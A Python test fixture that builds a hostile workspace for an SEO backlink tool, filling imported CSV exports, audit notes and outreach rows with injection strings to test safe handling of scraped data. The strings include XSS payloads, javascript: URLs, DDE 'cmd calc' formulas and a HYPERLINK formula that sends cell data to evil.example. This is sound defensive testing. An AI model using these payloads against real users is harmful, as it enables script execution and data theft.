"""A workspace whose imported data is hostile: anchors, titles, URLs and domains carrying HTML, scripts,
`javascript:` links, Markdown links and spreadsheet formulas, as scraped pages can.

Used by tests/test_untrusted_content.py (lib and AppTest) and tests/browser/test_untrusted_content.py.

Besides the site's own exports the workspace holds what the later pages read: the competitor's Referring
Domains and Backlinks with hostile domain names and titles (so the Backlink gap has hostile rows), audit
decisions with hostile notes and a disavow decision on a hostile URL, and outreach prospects with hostile
notes, contacts and target URLs.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd

from lib import decisions, importer, outreach
from lib.workspaces import Workspace, create_workspace
from tests.export_fixtures import HEADERS

WORKSPACE_ID = "hostile"
OWN = "hostile-target.com"
RIVAL = "rival.example"

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
JS_URL = "javascript:alert(1)"
FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
DDE = "+cmd|' /C calc'!A0"
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_FORMULA = "-2+3+cmd|' /C calc'!A0"
MD_LINK = "[click me](javascript:alert(1))"
HTML_LINK = '<a href="https://evil.example/">win a prize</a>'
# Everything a spreadsheet would run as a formula if it were written as is.
FORMULAS = (FORMULA, DDE, AT_FORMULA, MINUS_FORMULA)
HOSTILE_TEXTS = (SCRIPT, IMG, JS_URL, MD_LINK, HTML_LINK, *FORMULAS)


def _csv(header: list[str], rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def _backlink(ascore: int, title: str, source: str, target: str, anchor: str, nofollow: bool = False) -> list[str]:
    flag = "true" if nofollow else "false"
    return [str(ascore), title, source, target, anchor, "3", "10", flag, "false", "false", "true", "false", "false",
            "false", "false", "2024-01-10", "2024-04-30", "false", "false"]


def backlinks_export() -> bytes:
    target = f"https://{OWN}/"
    rows = [
        _backlink(98, SCRIPT, f"https://evil-one.example/{SCRIPT}", target, IMG),
        _backlink(97, FORMULA, f"https://evil-two.example/page?q={IMG}", f"{target}shop", FORMULA),
        _backlink(96, HTML_LINK, "https://evil-three.example/post", target, MD_LINK),
        _backlink(95, DDE, "https://evil-four.example/a", target, JS_URL),
        _backlink(94, AT_FORMULA, "https://evil-five.example/b", target, HTML_LINK),
        _backlink(93, IMG, "https://evil-six.example/c", target, MINUS_FORMULA),
        _backlink(92, MD_LINK, "https://evil-seven.example/d", target, SCRIPT),
        # A link whose target is a javascript: URL: rows keep it as text.
        _backlink(91, "js target", "https://evil-eight.example/e", JS_URL, "hostile"),
        _backlink(90, "js source", JS_URL, target, "hostile"),
    ]
    for i in range(40):  # ordinary links, so charts and tables have a body around the hostile rows
        rows.append(_backlink(10 + i, f"Coffee post {i}", f"https://blog{i % 12}.example/post-{i}",
                              f"{target}{'guide' if i % 2 else ''}", ["hostile target", "click here", OWN][i % 3],
                              nofollow=bool(i % 4 == 0)))
    return _csv(HEADERS["backlinks"], rows)


def referring_domains_export() -> bytes:
    rows = [[str(90 - i), domain, "3", "1.2.3.4", "US", "2024-01-01", "2024-04-30"]
            for i, domain in enumerate(["evil-one.example", "evil-two.example", "evil-three.example",
                                        "evil-four.example", "evil-five.example", "evil-six.example",
                                        "evil-seven.example", "evil-eight.example"])]
    rows += [[str(5 + i), f"blog{i}.example", "2", "5.6.7.8", "DE", "2024-01-01", "2024-04-30"] for i in range(12)]
    return _csv(HEADERS["referring_domains"], rows)


def anchors_export() -> bytes:
    rows = [[text, str(9 - i), str(20 - i), "2024-01-01", "2024-04-30"] for i, text in enumerate(HOSTILE_TEXTS)]
    rows += [["hostile target", "5", "12", "2024-01-01", "2024-04-30"]]
    return _csv(HEADERS["anchors"], rows)


# Domain names as the competitor's exports spell them (and as lib.normalize keeps them): each one a prospect
# of the gap, since it links to the competitor and not to the site.
HOSTILE_DOMAINS = (
    "a<img src=x onerror=alert(1)>.example",
    "<a href=evil.example>win<.example",
    "<script>alert(1)<",
    '=hyperlink("x").example',
    "-2+3.example",
    "[click](evil.example).example",
)
# A disavow decision on a URL that really is one of the site's hostile backlinks.
DISAVOWED_URL = f"https://evil-one.example/{SCRIPT}"
HOSTILE_NOTES = {  # audit decisions: domain -> note
    "evil-one.example": SCRIPT, "evil-two.example": MD_LINK, "evil-three.example": HTML_LINK,
    "evil-four.example": FORMULA,
}
# Outreach rows: domain -> (contact, note, target URL)
HOSTILE_OUTREACH = {
    HOSTILE_DOMAINS[0]: (f"{IMG}@evil.example", SCRIPT, JS_URL),
    HOSTILE_DOMAINS[1]: (MD_LINK, HTML_LINK, f"https://{OWN}/{SCRIPT}"),
    HOSTILE_DOMAINS[3]: (FORMULA, DDE, "data:text/html,<script>alert(1)</script>"),
    "evil-two.example": (HTML_LINK, MD_LINK, f"https://{OWN}/shop"),
}


def rival_referring_domains_export() -> bytes:
    rows = [[str(60 - 5 * i), domain, "4", f"9.9.{i}.1", "US", "2024-02-01", "2024-04-30"]
            for i, domain in enumerate(HOSTILE_DOMAINS)]
    # shared with the site: not prospects, but on the overlap chart
    rows += [["70", "evil-one.example", "2", "1.2.3.4", "US", "2024-01-01", "2024-04-30"]]
    rows += [[str(30 + i), f"blog{i}.example", "1", "5.6.7.8", "DE", "2024-01-01", "2024-04-30"] for i in range(4)]
    rows += [[str(20 + i), f"rival-fan{i}.example", "3", "7.7.7.7", "US", "2024-01-01", "2024-04-30"]
             for i in range(6)]
    return _csv(HEADERS["referring_domains"], rows)


def rival_backlinks_export() -> bytes:
    """Links to the competitor from the hostile domains, with hostile titles and anchors (the gap's relevance
    and risk read them)."""
    target = f"https://{RIVAL}/"
    titles = (SCRIPT, HTML_LINK, FORMULA, MD_LINK, IMG, DDE)
    rows = [_backlink(50, titles[i % len(titles)], f"http://{domain}/post", target, titles[(i + 1) % len(titles)])
            for i, domain in enumerate(HOSTILE_DOMAINS)]
    return _csv(HEADERS["backlinks"], rows)


def add_hostile_decisions(workspace: Workspace, root: Path | None = None) -> None:
    for domain, note in HOSTILE_NOTES.items():
        decisions.set_decisions(workspace.id, domain, "remove" if domain != "evil-four.example" else "disavow",
                                note, root=root)
    decisions.set_decisions(workspace.id, DISAVOWED_URL, "disavow", f"{IMG} {MD_LINK}", scope="url", root=root)


def add_hostile_outreach(workspace: Workspace, root: Path | None = None) -> None:
    outreach.add_prospects(workspace.id, list(HOSTILE_OUTREACH), source="gap", root=root,
                           notes={d: note for d, (_, note, _) in HOSTILE_OUTREACH.items()})
    loaded = outreach.outreach_list(workspace.id, root)
    edited = loaded.copy()
    for column, position in (("contact", 0), ("note", 1), ("target_url", 2)):
        edited[column] = [HOSTILE_OUTREACH[d][position] for d in edited["domain"]]
    edited["status"] = ["to contact", "contacted", "replied", "new"][:len(edited)]
    edited["next_follow_up"] = pd.Timestamp.today().normalize()
    result = outreach.save_edits(workspace.id, edited, root, original=loaded)
    assert not result.problems and not result.conflicts, result
    assert len(result.saved) == len(HOSTILE_OUTREACH), result


def create_hostile_workspace(root: Path | None = None) -> Workspace:
    workspace = create_workspace("Hostile data", OWN, [RIVAL], brand_terms=["hostile"],
                                 target_keywords=["coffee grinder"], workspace_id=WORKSPACE_ID, root=root)
    for name, data in ((f"{OWN}-backlinks-2024-04-30.csv", backlinks_export()),
                       (f"{OWN}-refdomains-2024-04-30.csv", referring_domains_export()),
                       (f"{OWN}-anchors-2024-04-30.csv", anchors_export())):
        [outcome] = importer.import_bytes(workspace, data, name, target_domain=OWN, root=root)
        assert outcome.snapshot is not None, outcome.error
        assert outcome.problems.rejected_total == 0, outcome.problems.rejected
    for name, data in ((f"{RIVAL}-refdomains-2024-04-30.csv", rival_referring_domains_export()),
                       (f"{RIVAL}-backlinks-2024-04-30.csv", rival_backlinks_export())):
        [outcome] = importer.import_bytes(workspace, data, name, target_domain=RIVAL, root=root)
        assert outcome.snapshot is not None, outcome.error
        assert outcome.problems.rejected_total == 0, outcome.problems.rejected
    add_hostile_decisions(workspace, root)
    add_hostile_outreach(workspace, root)
    return workspace
